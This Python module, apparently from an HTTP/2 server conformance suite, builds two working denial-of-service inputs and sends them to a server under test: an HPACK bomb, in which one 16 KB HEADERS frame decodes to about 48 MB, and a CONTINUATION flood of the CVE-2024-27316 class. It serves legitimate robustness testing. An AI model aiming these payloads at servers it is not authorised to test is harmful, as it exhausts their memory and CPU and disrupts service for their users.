"""Field blocks that decode to far more than the SETTINGS_MAX_HEADER_LIST_SIZE the server advertised: few octets on
the wire (the HPACK bomb), or a block that never ends (the CONTINUATION flood). A server that enforces its limit
stops decoding at it and ends the connection; one that does not spends memory and CPU on every octet."""
from hyperframe.frame import ContinuationFrame

from h2conformance.frames import DEFAULT_MAX_FRAME, hp_int, plain_block

from .floods import flood
from .watch import Watch

ENTRY = 4000  # octets of the bomb's value: the entry (value + name + 32) still fits a 4096-octet dynamic table


def hpack_bomb(port, tls, path):
    """One HEADERS frame of 16 KB that decodes to ~48 MB: a 4 KB field stored in the dynamic table, then referenced
    by one-octet indexed representations (RFC 7541 6.1) to the end of the frame."""
    w = Watch(port, tls, path)
    c = w.conn
    block = c.encode(c.request() + [("x-bomb", "A" * ENTRY)])  # the encoder stores x-bomb: the newest entry, 62
    refs = DEFAULT_MAX_FRAME - len(block)
    block += hp_int(62, 7, 0x80) * refs
    c.send_headers(1, block=block, note=f"GET + x-bomb ({ENTRY} octets) + {refs} references to it")
    w.wait_close()
    decoded = refs * (ENTRY + len("x-bomb")) >> 20
    return f"entry={ENTRY}B refs={refs} decodes_to~{decoded}MiB wire={len(block)}B {w.summary()}"


def continuation_flood(port, tls, path):
    """CVE-2024-27316 class: a GET whose field block never ends -- HEADERS without END_HEADERS, then CONTINUATION
    frames of ~11 KB of fields each. The stream is not complete before END_HEADERS, so a server that only checks
    complete requests buffers (or decodes) all of it."""
    w = Watch(port, tls, path)
    c = w.conn
    c.send_headers(1, end_headers=False)
    fields = plain_block([(f"x-c{i}", "a" * 100) for i in range(100)])
    frames = ContinuationFrame(1, data=fields).serialize() * 10
    n = flood(w, lambda _: frames, 10, max_frames=1000)  # at most ~11 MB
    return f"continuations_sent={n} (~{n * len(fields) >> 10} KiB field block) {w.summary()}"
